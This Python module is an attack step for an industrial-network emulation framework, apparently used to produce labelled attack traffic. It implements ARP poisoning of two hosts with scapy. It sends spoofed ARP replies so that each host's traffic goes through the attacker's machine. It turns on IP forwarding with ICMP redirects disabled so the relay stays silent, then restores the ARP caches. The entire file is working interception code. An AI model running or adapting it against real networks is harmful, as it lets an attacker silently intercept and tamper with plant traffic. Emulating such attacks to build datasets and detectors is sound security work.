"""Adversary-in-the-middle on the plant's LAN (T0830): ARP poisoning of two hosts with scapy, relay by the kernel.

Runs on the attacker's host (its own network namespace). One action::

    {op: poison, other: 10.10.1.10, seconds: 20, interval: 1.0}

poisons the step's ``target`` and ``other`` (each is told, by unsolicited ARP replies every
``interval`` seconds, that the other's address is at the attacker's MAC) while this namespace
forwards their IPv4 traffic (``ip_forward`` on, ICMP redirects off: the relay is silent), then
restores both caches with correct replies (sent, as dsniff's arpspoof does, from the attacker's
NIC) and turns forwarding off again. There are no sockets to report: the agent emits a ``mac``
event with its NIC's address, and the labeller gives the step every frame to or from that MAC.
"""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

from .common import STOP, emit

PORT = 0  # no server port: the step works at layer 2
TRANSPORT = "ethernet"
IFACE = "eth0"
RESTORE_ROUNDS = 3
_SYSCTLS = ("net/ipv4/ip_forward", "net/ipv4/conf/all/send_redirects", f"net/ipv4/conf/{IFACE}/send_redirects")


def serve(cfg: dict[str, Any]) -> int:
    raise SystemExit("aitm has no server: it is an attack step only")


def _sysctl(name: str, value: str | None = None) -> str:
    path = Path("/proc/sys") / name
    old = path.read_text().strip()
    if value is not None:
        path.write_text(value + "\n")
    return old


class Session:
    def __init__(self, spec: dict[str, Any]) -> None:
        self.spec = spec
        self.opts = spec.get("options", {})
        self.saved: dict[str, str] = {}
        self.mac = Path(f"/sys/class/net/{IFACE}/address").read_text().strip()
        emit("mac", mac=self.mac, iface=IFACE)

    def forwarding(self, on: bool) -> None:
        if on:
            for name in _SYSCTLS:
                self.saved.setdefault(name, _sysctl(name))
            _sysctl("net/ipv4/conf/all/send_redirects", "0")
            _sysctl(f"net/ipv4/conf/{IFACE}/send_redirects", "0")
            _sysctl("net/ipv4/ip_forward", "1")
        else:
            for name, old in reversed(list(self.saved.items())):
                _sysctl(name, old)
            self.saved.clear()

    def close(self) -> None:
        if self.saved:
            self.forwarding(False)


def _resolve(ip: str, tries: int = 3) -> str:
    from scapy.layers.l2 import getmacbyip

    for _ in range(tries):
        mac = getmacbyip(ip)
        if mac:
            return str(mac)
    raise RuntimeError(f"no ARP answer from {ip}")


def _poison(s: Session, a: dict[str, Any]) -> dict[str, Any]:
    from scapy.layers.l2 import ARP, Ether
    from scapy.sendrecv import sendp

    a_ip, b_ip = str(s.spec["target"]), str(a.get("other", s.opts.get("other")))
    a_mac, b_mac = _resolve(a_ip), _resolve(b_ip)
    seconds, interval = float(a.get("seconds", 20.0)), float(a.get("interval", 1.0))

    def replies(a_claims: str, b_claims: str) -> list[Any]:
        # a is told that b's address is at `b_claims`; b that a's address is at `a_claims`
        return [Ether(src=s.mac, dst=a_mac) / ARP(op=2, hwsrc=b_claims, psrc=b_ip, hwdst=a_mac, pdst=a_ip),
                Ether(src=s.mac, dst=b_mac) / ARP(op=2, hwsrc=a_claims, psrc=a_ip, hwdst=b_mac, pdst=b_ip)]

    spoofed = replies(s.mac, s.mac)
    s.forwarding(True)
    sent = 0
    t0 = time.monotonic()
    emit("poisoning", victims={a_ip: a_mac, b_ip: b_mac}, seconds=seconds)
    try:
        while time.monotonic() - t0 < seconds and not STOP.is_set():
            sendp(spoofed, iface=IFACE, verbose=False)
            sent += len(spoofed)
            STOP.wait(interval)
    finally:
        restore = replies(a_mac, b_mac)
        for _ in range(RESTORE_ROUNDS):
            sendp(restore, iface=IFACE, verbose=False)
            time.sleep(0.3)
        time.sleep(1.0)  # frames already sent to this MAC are still relayed
        s.forwarding(False)
    emit("restored", victims={a_ip: a_mac, b_ip: b_mac})
    return {"spoofed_replies": sent, "restore_replies": RESTORE_ROUNDS * 2, "victims": {a_ip: a_mac, b_ip: b_mac},
            "attacker_mac": s.mac, "seconds": round(time.monotonic() - t0, 1)}


ACTIONS = {"poison": _poison}
